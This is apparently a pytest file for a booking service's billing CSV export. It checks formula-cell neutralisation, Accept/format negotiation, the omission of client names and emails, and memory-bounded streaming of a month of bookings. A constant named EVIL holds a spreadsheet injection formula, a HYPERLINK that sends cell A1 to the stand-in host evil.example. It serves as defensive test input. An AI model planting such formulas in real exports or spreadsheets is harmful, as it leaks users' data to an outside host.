"""The billing CSV: cells made safe, content negotiation, the documented header, no
client identity, and a month of 10,000 bookings streamed with bounded memory."""

from __future__ import annotations

import csv
import io
import json
import secrets
import tracemalloc
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import insert

from booking_gate import billing_csv
from booking_gate.appkeys import SERVICE
from booking_gate.billing_csv import HEADER, neutralise, wants_csv
from booking_gate.db import schema as t
from booking_gate.model import (
    Booking,
    BookingId,
    BookingStatus,
    ClientId,
    Funding,
    ProfessionalId,
    RoomId,
    Source,
)
from tests.conftest import AUTH, FakeClock, GateClient, booking_body

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CLIENT_NAME, CLIENT_EMAIL = "Sécret Clïent", "secret.client@example.org"


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+31 6 1234", "'+31 6 1234"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("Dr Pro", "Dr Pro"), ("", ""),
    ("a=b", "a=b"), ("'quoted", "'quoted"),
])
def test_formula_cells_are_neutralised(cell: str, safe: str) -> None:
    """Leading =, +, -, @, tab, CR or LF get a quote; anything else is unchanged."""
    assert neutralise(cell) == safe


@pytest.mark.parametrize(("accept", "fmt", "csv_wanted"), [
    ("text/csv", None, True),
    ("text/csv;q=0.9, application/json;q=0.5", None, True),
    ("application/json, text/csv;q=0.5", None, False),
    ("*/*", None, False),
    (None, None, False),
    ("text/csv;q=0", None, False),
    ("application/json", "csv", True),
    ("text/csv", "json", False),
    ("TEXT/CSV; charset=utf-8", None, True),
])
def test_csv_is_chosen_by_format_then_accept(accept: str | None, fmt: str | None,
                                             csv_wanted: bool) -> None:
    """format wins; otherwise text/csv ranked at least as high as JSON."""
    assert wants_csv(accept, fmt) is csv_wanted


def test_the_media_columns_come_last_in_whole_seconds() -> None:
    """video_seconds and audio_only_seconds are the last two columns, from the record;
    a record without them (rules 1) gives 0."""
    assert HEADER[-2:] == ("video_seconds", "audio_only_seconds")
    start = datetime(2026, 11, 2, 10, tzinfo=UTC)
    booking = Booking(BookingId("b-1"), ProfessionalId("pro-1"), ClientId("cli-1"), None,
                      start, start + timedelta(minutes=50), Funding.PRIVATE, Source.DIRECT,
                      BookingStatus.CONFIRMED, RoomId("r"), start, start)
    cells = billing_csv.row(booking, {"together_seconds": 2999, "video_seconds": 2000,
                                      "audio_only_seconds": 900}, "Dr Pro")
    assert cells[HEADER.index("together_minutes")] == "49"
    assert cells[-2:] == ["2000", "900"]
    assert billing_csv.row(booking, {"together_seconds": 60}, None)[-2:] == ["0", "0"]


def test_docs_api_shows_the_header() -> None:
    """docs/api.md's billing CSV section names exactly HEADER."""
    docs = (Path(__file__).parent.parent / "docs" / "api.md").read_text()
    assert "\n" + ",".join(HEADER) + "\n" in docs


async def call(gate: GateClient, method: str, path: str, body: Any = None,
               status: int = 200) -> Any:
    response = await gate.request(method, path, headers=AUTH, json=body)
    data = await response.json()
    assert response.status == status, data
    return data


async def people(gate: GateClient, professional_name: str = "Dr Pro") -> None:
    await call(gate, "PUT", "/api/v1/professionals/pro-1", {
        "name": professional_name, "email": "pro@example.org", "timezone": "Europe/Oslo"})
    await call(gate, "PUT", "/api/v1/clients/cli-1", {
        "name": CLIENT_NAME, "email": CLIENT_EMAIL, "timezone": "Europe/Oslo",
        "hub_id": "acme"})
    await call(gate, "POST", "/api/v1/hubs/acme/credits", {"client_id": "cli-1", "credits": 5})


MONTH = "from=2026-11-01T00:00:00Z&to=2026-12-01T00:00:00Z"


async def test_the_csv_has_the_documented_header_and_the_export_rows(
        gate: GateClient, clock: FakeClock) -> None:
    """Parsed with csv.DictReader: the header, one row per booking in order, the same
    outcomes as the JSON export; the formula name is neutralised; no client name/email."""
    await people(gate, EVIL)
    for n, hours in enumerate((2, 30, 50)):
        await call(gate, "PUT", f"/api/v1/bookings/b-{n}",
                   booking_body(clock.now + timedelta(hours=hours)), 201)
    await call(gate, "POST", "/api/v1/bookings/b-0/cancel", {"by": "client"})
    response = await gate.get(f"/api/v1/attendance?{MONTH}",
                              headers={**AUTH, "Accept": "text/csv"})
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    text = (await response.read()).decode("utf-8")
    assert text.startswith(",".join(HEADER) + "\r\n")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == HEADER
    rows = list(reader)
    exported = (await call(gate, "GET", f"/api/v1/attendance?{MONTH}"))["items"]
    assert [r["booking_id"] for r in rows] == [r["booking_id"] for r in exported] == [
        "b-0", "b-1", "b-2"]
    for row, record in zip(rows, exported, strict=True):
        assert row["outcome"] == (record["outcome"] or "")
        assert row["billable"] == ("true" if record["billable"] else "false")
        assert row["payer"] == (record["payer"] or "")
        assert row["explanation"] == record["explanation"]
        assert row["rule_version"] == record["rule_version"]
        assert (row["professional_id"], row["client_id"], row["hub_id"]) == (
            "pro-1", "cli-1", "acme")
        assert row["professional_name"] == "'" + EVIL
        assert row["booked_minutes"] == "50" and row["together_minutes"] == "0"
    assert rows[0]["outcome"] == "late_cancellation" and rows[0]["payer"] == "sponsor"
    assert rows[1]["starts_at"] == (clock.now + timedelta(hours=30)).strftime(
        "%Y-%m-%dT%H:%M:%SZ")
    for secret in (CLIENT_NAME, CLIENT_EMAIL, "Sécret", "secret.client"):
        assert secret not in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows
                   for cell in row.values())

    by_format = await gate.get(f"/api/v1/attendance?{MONTH}&format=csv", headers=AUTH)
    assert (await by_format.read()).decode() == text


@pytest.mark.parametrize(("query", "field"), [
    ("&format=csv&limit=10", "limit"),
    ("&format=csv&cursor=abc", "cursor"),
    ("&format=xml", "format"),
])
async def test_csv_refuses_json_paging_and_unknown_formats(gate: GateClient, query: str,
                                                           field: str) -> None:
    """A CSV export streams every row: limit and cursor are refused before any byte."""
    error = await call(gate, "GET", f"/api/v1/attendance?{MONTH}{query}", status=422)
    assert error["error"]["field"] == field


async def test_an_empty_month_is_just_the_header(gate: GateClient) -> None:
    """No bookings: the header row alone."""
    response = await gate.get(f"/api/v1/attendance?{MONTH}",
                              headers={**AUTH, "Accept": "text/csv"})
    assert (await response.read()).decode() == ",".join(HEADER) + "\r\n"


ROWS = 10_000
PROFESSIONALS = 50


async def insert_month(gate: GateClient) -> None:
    """10,000 final bookings in November: 50 professionals with 200 sessions each,
    written straight into the tables (the API would take minutes)."""
    now = datetime(2026, 12, 1, 12, tzinfo=UTC)
    engine = gate.app[SERVICE].store.engine
    record = {"status": "final", "outcome": "completed", "billable": True, "payer": "sponsor",
              "rule_version": "carecall-rules/1",
              "explanation": "Both parties joined and the media connected, so the session "
                             "is billable to the sponsor and the credit is consumed.",
              "parties": {role: {"joined": True, "first_joined_at": "2026-11-01T00:00:00Z",
                                 "present_seconds": 3000, "intervals": [
                                     {"from": "2026-11-01T00:00:00Z",
                                      "to": "2026-11-01T00:50:00Z"}]}
                          for role in ("professional", "client")},
              "together_seconds": 2950, "media_connected": True}
    async with engine.begin() as conn:
        await conn.execute(insert(t.professionals), [{
            "professional_id": f"mp-{p}", "name": f"Dr Number {p}",
            "email": f"pro{p}@example.org", "timezone": "UTC", "session_minutes": 50,
            "buffer_minutes": 10, "availability": "[]", "updated_at": now}
            for p in range(PROFESSIONALS)])
        bookings, records = [], []
        for n in range(ROWS):
            start = datetime(2026, 11, 1, tzinfo=UTC) + timedelta(hours=3 * (n // PROFESSIONALS))
            booking_id = f"m-{n:05d}"
            bookings.append({
                "booking_id": booking_id, "professional_id": f"mp-{n % PROFESSIONALS}",
                "client_id": "cli-1", "hub_id": "acme", "starts_at": start,
                "ends_at": start + timedelta(minutes=50), "funding": "sponsored",
                "source": "hub", "status": "confirmed", "room_id": secrets.token_hex(16),
                "created_at": now, "changed_at": now, "credit_state": "consumed"})
            records.append({"booking_id": booking_id, "outcome": "completed",
                            "record": json.dumps({**record, "booking_id": booking_id}),
                            "finalized_at": now})
        await conn.execute(insert(t.bookings), bookings)
        await conn.execute(insert(t.attendance_records), records)


@pytest.mark.timeout(300)
# SQLite only: the bound is on the gate's response path, not the database's.
@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_a_month_of_10000_bookings_streams_with_bounded_memory(
        gate: GateClient, tmp_path: Path) -> None:
    """The whole month arrives (10,000 rows, parsed under the header) while the peak
    traced memory of the request (server and client in this process) stays below the
    export's own size: it is streamed page by page, never built whole."""
    await people(gate)
    await insert_month(gate)
    out = tmp_path / "month.csv"
    size = 0
    tracemalloc.start()
    try:
        response = await gate.get(f"/api/v1/attendance?{MONTH}",
                                  headers={**AUTH, "Accept": "text/csv"})
        assert response.status == 200
        with out.open("wb") as sink:
            async for chunk in response.content.iter_chunked(64 * 1024):
                size += len(chunk)
                sink.write(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    with out.open(newline="", encoding="utf-8") as source:
        reader = csv.DictReader(source)
        assert tuple(reader.fieldnames or ()) == HEADER
        rows = list(reader)
    assert len(rows) == ROWS
    assert [r["booking_id"] for r in rows] == sorted(r["booking_id"] for r in rows)
    assert {r["outcome"] for r in rows} == {"completed"}
    assert rows[-1]["together_minutes"] == "49"
    # Those records predate rules 2: the media columns read 0, not empty or an error.
    assert (rows[-1]["video_seconds"], rows[-1]["audio_only_seconds"]) == ("0", "0")
    assert size > 2_000_000  # the month's export is megabytes
    # Built whole, the export would hold at least its own bytes, and every row's parsed
    # record besides (tens of megabytes); streamed, a page of rows at a time is held.
    print(f"CSV export: {size} bytes, peak traced memory {peak} bytes")
    assert peak < size, (peak, size)
    assert billing_csv.CONTENT_TYPE == "text/csv"


async def test_a_failure_mid_stream_cuts_the_connection(gate: GateClient,
                                                        clock: FakeClock) -> None:
    """The store failing after the header was sent: the client sees a broken response,
    never a short export that looks complete."""
    import aiohttp
    from sqlalchemy import text

    await people(gate)
    await call(gate, "PUT", "/api/v1/bookings/b-0",
               booking_body(clock.now + timedelta(hours=30)), 201)
    async with gate.app[SERVICE].store.engine.begin() as conn:
        await conn.execute(text("DROP TABLE attendance_overrides"))  # read by every page
    response = await gate.get(f"/api/v1/attendance?{MONTH}&format=csv", headers=AUTH)
    assert response.status == 200  # sent before the first page was read
    with pytest.raises(aiohttp.ClientPayloadError):
        await response.read()
